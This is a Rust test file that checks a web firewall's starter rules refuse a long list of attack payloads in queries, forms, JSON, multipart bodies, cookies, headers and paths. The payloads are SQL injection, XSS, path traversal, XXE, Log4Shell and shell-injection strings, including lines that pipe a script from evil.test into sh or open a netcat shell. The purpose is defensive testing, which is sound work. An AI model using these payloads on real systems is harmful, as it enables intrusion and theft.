//! Attacks that the starter rules refuse, each in every place where a value can stand.

use super::{Request, encoded, refusal, run, starter};

const PAYLOADS: &[&str] = &[
    "' or 1=1--",
    "' OR 'a'='a",
    "\") or (\"x\"=\"x",
    "x' and 1=1 and 'a'='a",
    "'/**/or/**/1=1#",
    "1 or 1=1",
    "1) or (1=1",
    "1 UNION SELECT",
    "-1 union all select null,null,version()",
    "1/**/union/**/select/**/password/**/from/**/users",
    "1; DROP TABLE users",
    "1;delete from users where 1=1",
    "1 and sleep(5)",
    "1' waitfor delay '0:0:5'--",
    "(select password from users limit 1)",
    "1 and extractvalue(1,concat(0x7e,version()))",
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js>",
    "\"><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "' autofocus onfocus=alert(1) x='",
    "<iframe src=https://evil.test></iframe>",
    "javascript:alert(document.cookie)",
    "\"><a href=\"javascript:alert(1)\">x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "../../etc/passwd",
    "../../../../windows/win.ini",
    "..\\..\\..\\boot.ini",
    "....//....//secret",
    "/etc/passwd",
    "/proc/self/environ",
    "php://filter/convert.base64-encode/resource=index.php",
    ";cat /etc/passwd",
    "; ls -la",
    "x && whoami",
    "| nc 203.0.113.9 4444",
    "|wget http://evil.test/x.sh",
    "; curl -s http://evil.test | sh",
    "`whoami`",
    "$(id)",
    "$(cat /tmp/x)",
    ";cat${IFS}x",
    "| bash -i",
    "${jndi:ldap://evil.test/a}",
    "() { :;}; /bin/bash -c x",
    "' or ''='",
    "1' ORDER BY 10--",
    "' having 1=1--",
    "'||(select 1)||'",
    "1' AND SLEEP(5)#",
    "select username, password from users where id=1",
    "insert into users values (1)",
    "<details open ontoggle=alert(1)>",
    "\\u003cscript\\u003ealert(1)",
    "';alert(1)//",
    "file:///etc/passwd",
    "|| ls",
    "; echo x > /tmp/y",
    "/bin/sh -c id",
    "<?php system($_GET['c']); ?>",
    "${${lower:j}ndi:ldap://x}",
];

fn json(payload: &str) -> String {
    serde_json::json!({"user": {"names": ["Anna", payload]}, "page": 1}).to_string()
}

fn multipart(payload: &str) -> String {
    format!("--b0\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\n{payload}\r\n--b0--\r\n")
}

/// The same payload in all places.
fn everywhere(payload: &str) -> Vec<(&'static str, Request)> {
    let form = "application/x-www-form-urlencoded";
    let once = encoded(payload);
    let twice = encoded(&once);
    vec![
        ("query", Request::get(&format!("/search?page=1&q={once}"))),
        ("query, twice encoded", Request::get(&format!("/search?q={twice}"))),
        ("form", Request::post(form, format!("a=1&q={once}"))),
        ("form, twice encoded", Request::post(form, format!("q={twice}"))),
        ("JSON", Request::post("application/json; charset=utf-8", json(payload))),
        ("JSON, encoded", Request::post("application/vnd.api+json", json(&once))),
        ("multipart", Request::post("multipart/form-data; boundary=b0", multipart(payload))),
        ("multipart, encoded", Request::post("multipart/form-data; boundary=\"b0\"", multipart(&once))),
        ("cookie", Request::get("/").header("Cookie", &format!("a=b; session={once}"))),
        ("header", Request::get("/").header("X-Search", payload)),
    ]
}

#[test]
fn are_refused_in_every_place() {
    let rules = starter();
    let mut missed = Vec::new();
    for payload in PAYLOADS {
        for (place, request) in everywhere(payload) {
            let transaction = run(&rules, &request);
            match refusal(&transaction) {
                Some((100_100.., 403)) if !transaction.matches().is_empty() => {}
                other => missed.push(format!("{payload:?} in {place}: {other:?}")),
            }
        }
    }
    assert!(missed.is_empty(), "{} missed:\n{}", missed.len(), missed.join("\n"));
}

#[test]
fn in_the_path_are_refused() {
    let rows = [
        "/../../etc/passwd",
        "/static/%2e%2e%2f%2e%2e%2fsecret",
        "/static/..%5c..%5csecret",
        "/static/%252e%252e%252fsecret",
        "/a/..;/manager/html",
        "/static/..",
        "/.git/config",
        "/.env",
        "/users/1%27%20or%201=1--",
        "/users/1%20union%20select%201",
        "/x/%3Cscript%3Ealert(1)%3C/script%3E",
        "/x;cat%20/etc/passwd",
        "/index.php%00.jpg",
        "http://www.example.test/../secret",
    ];
    let rules = starter();
    for target in rows {
        let transaction = run(&rules, &Request::get(target));
        assert!(refusal(&transaction).is_some(), "{target}");
    }
}

#[test]
fn of_other_kinds_are_refused() {
    let form = "application/x-www-form-urlencoded";
    let json = "application/json";
    let cut = "--b\r\nA: b\r\n\r\nx";
    let part = "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n";
    let entity = "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>";
    let rows = [
        ("sqlmap", Request::get("/").header("User-Agent", "sqlmap/1.7 (https://sqlmap.org)"), 100_100, 403),
        ("nikto", Request::get("/").header("User-Agent", "Mozilla/5.00 (Nikto/2.1.6)"), 100_100, 403),
        ("nuclei", Request::get("/").header("user-agent", "Nuclei - Open-source project"), 100_100, 403),
        ("dots alone", Request::get("/?f=%2e%2e%2f"), 100_140, 403),
        ("climbing file name", Request::get("/?f=../config.php"), 100_140, 403),
        ("admin'--", Request::post(form, "user=admin%27--&password=x"), 100_125, 403),
        ("comment that runs", Request::get("/?q=1/*!50000union*/%20/*!50000select*/1"), 100_125, 403),
        ("metadata service", Request::get("/?u=http://169.254.169.254/latest/"), 100_142, 403),
        ("header injection", Request::get("/?u=x%0d%0aSet-Cookie:a=b"), 100_156, 403),
        ("NUL in the query", Request::get("/?a=b%00c"), 100_102, 403),
        ("NUL in a form", Request::post(form, "a=b%00"), 100_111, 403),
        ("NUL in JSON", Request::post(json, r#"{"a":"b\u0000"}"#), 100_111, 403),
        ("name of an argument", Request::get("/?%3Cscript%3E=1"), 100_130, 403),
        ("name of a JSON member", Request::post(json, r#"{"<script>":1}"#), 100_130, 403),
        ("JSON cut short", Request::post(json, r#"{"a":"#), 100_110, 400),
        ("JSON that is none", Request::post(json, "a=1"), 100_110, 400),
        ("multipart without end", Request::post("multipart/form-data; boundary=b", cut), 100_110, 400),
        ("multipart, no boundary", Request::post("multipart/form-data", "x"), 100_110, 400),
        ("text body", Request::post("text/plain", "hello <script>alert(1)</script>"), 100_130, 403),
        ("body of no type", Request::post("", entity), 100_141, 403),
        ("XML", Request::post("application/xml", format!("{entity}<x>&y;</x>")), 100_110, 400),
        ("XML that loads", Request::post("application/xml", format!("{entity}<x>y</x>")), 100_160, 403),
        ("XML without end", Request::post("application/xml", "<x>"), 100_110, 400),
        (
            "multipart after a preamble",
            Request::post("multipart/form-data; boundary=b", format!("x\r\n{part}--b--\r\n")),
            100_112,
            400,
        ),
    ];
    let rules = starter();
    for (name, request, rule, status) in rows {
        assert_eq!(refusal(&run(&rules, &request)), Some((rule, status)), "{name}");
    }
}
